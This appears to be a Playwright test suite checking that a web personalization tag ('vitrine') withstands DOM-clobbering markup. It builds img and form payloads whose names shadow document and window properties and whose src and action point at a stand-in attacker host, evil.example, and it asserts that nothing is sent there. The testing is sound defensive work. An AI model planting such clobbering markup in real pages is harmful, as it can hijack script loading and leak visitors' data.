"""Markup gives its names to the page's objects: `<img name=body>` becomes `document.body`. The tag never reads them."""

from __future__ import annotations

from typing import Any

import pytest
from playwright.sync_api import Page, expect

from tests.tag.conftest import STUB, Api, Site
from tests.tag.offers import BIND, CARD, banner, overlay, slot

EVIL = "http://evil.example"
POLICY = (
    "default-src 'none'; script-src 'nonce-abc'; connect-src {api} {evil}; img-src *; style-src 'none';"
    "require-trusted-types-for 'script'; trusted-types vitrine"
)
# A review may hold these: neither script nor handler, so every sanitizer that keeps names lets them through.
PICTURE = f'<img name={{0}} id={{0}} data-site=shop src="{EVIL}/vitrine.js" href="{EVIL}/">'
FORM = f'<form name={{0}} id={{0}} action="{EVIL}/"><input name=q><input name=loaded><input name=push><input name=call></form>'
OF_THE_DOCUMENT = [
    "currentScript",
    "body",
    "head",
    "title",
    "cookie",
    "referrer",
    "readyState",
    "hidden",
    "documentElement",
    "querySelector",
    "querySelectorAll",
    "createElement",
    "createDocumentFragment",
    "addEventListener",
    "dispatchEvent",
    "getElementsByTagName",
    "defaultView",
    "implementation",
]
OF_THE_WINDOW = [
    "vitrine",
    "dataLayer",
    "__tcfapi",
    "localStorage",
    "sessionStorage",
    "navigator",
    "location",
    "history",
    "crypto",
    "performance",
    "fetch",
    "JSON",
    "Object",
    "Array",
    "Proxy",
    "Reflect",
    "Promise",
    "URL",
    "HTMLScriptElement",
    "MutationObserver",
    "IntersectionObserver",
    "AbortController",
    "trustedTypes",
    "addEventListener",
    "setTimeout",
    "queueMicrotask",
    "innerHeight",
    "scrollY",
]
ALONE = [
    "currentScript",
    "vitrine",
    "dataLayer",
    "__tcfapi",
    "body",
    "head",
    "cookie",
    "querySelector",
    "documentElement",
    "createElement",
    "readyState",
    "addEventListener",
    "localStorage",
    "navigator",
    "fetch",
    "JSON",
    "location",
    "trustedTypes",
]
MARKUP = {
    **{f"img {name}": PICTURE.format(name) for name in ALONE},
    **{f"form {name}": FORM.format(name) for name in ALONE[:4]},
    **{f"two {name}": 2 * PICTURE.format(name) for name in ALONE[:4]},
    "all": "".join(PICTURE.format(name) + FORM.format(name) for name in [*OF_THE_DOCUMENT, *OF_THE_WINDOW]),
}


def watch(page: Page) -> tuple[list[str], list[str]]:
    """What the page's console says of errors, and what is sent to the other host; its pictures are not."""
    broken: list[str] = []
    sent: list[str] = []
    page.on("console", lambda message: broken.append(message.text) if message.type == "error" else None)
    page.on("pageerror", lambda error: broken.append(str(error)))

    def answer(route: Any) -> None:
        if route.request.resource_type != "image":
            sent.append(route.request.url)
        route.fulfill(status=204)

    page.route(f"{EVIL}/**", answer)
    return broken, sent


@pytest.mark.parametrize("markup", MARKUP.values(), ids=MARKUP.keys())
def test_names_in_the_page_change_nothing(page: Page, api: Api, site: Site, markup: str) -> None:
    """Whatever name markup takes from the page, the tag shows all, throws nothing, and sends to its own server only."""
    site.headers["Content-Security-Policy"] = POLICY.format(api=api.origin, evil=EVIL)
    broken, sent = watch(page)
    api.offer("hero", "h1", banner(changes=[{"html": "<b>Warm</b>"}]))
    api.offer("shelf", "#shelf", slot(content={"template": {"html": CARD, "bind": BIND[2:]}}))
    later = overlay("bar", trigger={"type": "event", "name": "go"}, why=["You asked."])
    api.offer("news", "h1", later, insert="overlay")
    line = f'<script nonce="abc" src="{api.origin}/vitrine.js" data-site="shop"></script>'
    command = "vitrine('consent', {personalization: true, measurement: true})"
    site.pages["/"] = (
        f"<!doctype html><html lang=en><title>Shop</title><body>{markup}<script nonce=abc>{STUB};{command}</script>"
        f'<h1>Owner</h1><div id="shelf"></div>{line}'
    ).encode()
    page.goto(f"{site.origin}/")
    expect(page.locator("h1 b")).to_have_text("Warm")
    expect(page.locator("#shelf .card")).to_have_count(2)
    page.evaluate("vitrine('event', 'go')")
    expect(page.get_by_text("Stay warm")).to_be_visible()
    assert api.wait_event("exposure")["page"]["url"] == f"{site.origin}/"
    assert (broken, sent) == ([], [])


def test_a_real_data_layer_after_markup_of_its_name(page: Page, api: Api, site: Site, errors: list[str]) -> None:
    """Markup that has the data layer's name is not taken for it; the page's own, made later, is heard."""
    page.goto(site.page("<img name=dataLayer><h1>Owner</h1>", head=PICTURE.format("dataLayer")))
    api.wait_event("page_view")
    page.evaluate("window.dataLayer = [{event: 'add_to_cart', ecommerce: {items: [{item_id: 'p1'}]}}]")
    page.evaluate("dispatchEvent(new Event('load'))")
    assert api.wait_event("add_to_cart")["items"] == [{"item_id": "p1", "quantity": 1}]
    assert errors == []


SHADOWS = [
    "attributes",
    "querySelector",
    "querySelectorAll",
    "replaceChildren",
    "append",
    "prepend",
    "before",
    "after",
    "matches",
    "closest",
    "contains",
    "remove",
    "setAttribute",
    "getAttribute",
    "removeAttribute",
    "hasAttribute",
    "classList",
    "style",
    "parentElement",
    "parentNode",
    "isConnected",
    "cloneNode",
    "addEventListener",
    "localName",
    "namespaceURI",
    "textContent",
    "insertBefore",
    "content",
    "nodeType",
]
SHADOWED = "".join(f"<input name={name} hidden>" for name in SHADOWS)


@pytest.mark.parametrize("insert", ["replace", "before", "after", "prepend", "append"])
def test_names_inside_a_form_change_nothing(page: Page, api: Api, site: Site, errors: list[str], insert: str) -> None:
    """A form whose inputs have the names of its methods is a placement like any other: drawn, reported and clicked."""
    changes = [{"html": "<a>Join</a>"}, {"attributes": {"title": "News"}, "add_class": ["warm"]}]
    api.offer("news", "#news", banner(changes=changes), insert=insert, reserve_height_px=50)
    page.goto(site.page(f'<main><form id="news">{SHADOWED}</form></main>'))
    api.wait_event("exposure")  # first: while an expectation waits, the browser's driver reads the form by these names
    space = page.locator("[data-vitrine=news]")
    expect(space).to_have_class("warm")
    expect(space).to_have_css("min-height", "50px")
    page.evaluate("HTMLElement.prototype.click.call(document.querySelector('[data-vitrine=news] a'))")
    api.wait_event("click")
    assert errors == []


def test_a_card_that_is_a_form(page: Page, api: Api, site: Site, errors: list[str]) -> None:
    """A card to copy may be a form whose inputs have the names of its methods."""
    bind = [{"field": "title", "selector": "b"}, {"field": "item_id", "attribute": "data-item"}]
    api.offer("shelf", "#shelf", slot(content={"template": {"clone": ".card", "bind": bind}}))
    page.goto(site.page(f'<div id="shelf"><form class="card" id="c1"><b>Owner</b>{SHADOWED}</form></div>'))
    page.wait_for_function("document.querySelectorAll('#shelf b').length === 2")
    titles = (
        "[...document.querySelectorAll('#shelf form:not([id])[data-item=p1] b, #shelf form:not([id])[data-item=p2] b')]"
    )
    assert page.evaluate(f"{titles}.map((one) => one.textContent)") == ["Coat 1", "Coat 2"]
    assert errors == []


def test_values_that_markup_has_are_no_values_of_the_page(page: Page, api: Api, site: Site, errors: list[str]) -> None:
    """An attribute whose variable or data layer is only an element's name is missing."""
    api.answer["attributes"] = {"tier": {"variable": "shop.tier"}, "plan": {"data_layer": "plan"}}
    for name in ("tier", "plan"):
        wrong, right = banner("wrong", residual={name: {"$exists": True}}), banner("right")
        api.offer(name, f"#{name}", wrong, right)
    markup = "<form id=shop><input name=tier></form>" + 2 * "<form id=dataLayer><input name=plan></form>"
    page.goto(site.page(f"{markup}<p id=tier></p><p id=plan></p>"))
    for name in ("tier", "plan"):
        expect(page.locator(f"#{name}").first).to_have_text("from right")
    assert errors == []


def insert(kind: str) -> str:
    """A script of the page that inserts the tag as a tag manager does."""
    return f"""(src) => {{
        const script = document.createElement("script");
        Object.assign(script, {{src, async: true, type: "{kind}"}});
        script.dataset.site = "shop";
        document.head.append(script);
    }}"""


def test_inserted_by_a_tag_manager(page: Page, api: Api, site: Site) -> None:
    """A tag manager that makes the script element by itself starts the tag, too."""
    site.pages["/"] = f"<!doctype html><title>Shop</title><script>{STUB}</script><h1>Owner</h1>".encode()
    api.offer("hero", "h1", banner())
    page.goto(f"{site.origin}/")
    page.evaluate(insert("text/javascript"), f"{api.origin}/vitrine.js")
    expect(page.locator("h1")).to_have_text("from hero")


@pytest.mark.parametrize("how", ["module", "svg"])
def test_what_is_no_classic_script_does_not_start(
    page: Page, api: Api, site: Site, errors: list[str], how: str
) -> None:
    """As a module, or as a script of SVG, the tag does nothing but say so: no other element is taken for its own."""
    said: list[str] = []
    page.on("console", lambda message: said.append(message.text))
    src = f"{api.origin}/vitrine.js"
    svg = f'<svg><script href="{src}" data-site="shop"></script></svg>' if how == "svg" else ""
    site.pages["/"] = f"<!doctype html>{PICTURE.format('currentScript')}<h1>Owner</h1>{svg}".encode()
    page.route(f"{EVIL}/**", lambda route: route.fulfill(status=204))
    page.goto(f"{site.origin}/")
    if how == "module":
        page.evaluate(insert("module"), src)
    page.wait_for_function("performance.getEntriesByType('resource').some((one) => one.name.endsWith('/vitrine.js'))")
    page.wait_for_load_state("networkidle")
    assert said == ["vitrine: dropped a module script"]
    assert api.received == [] and errors == []
    assert page.evaluate("typeof vitrine") == "undefined"
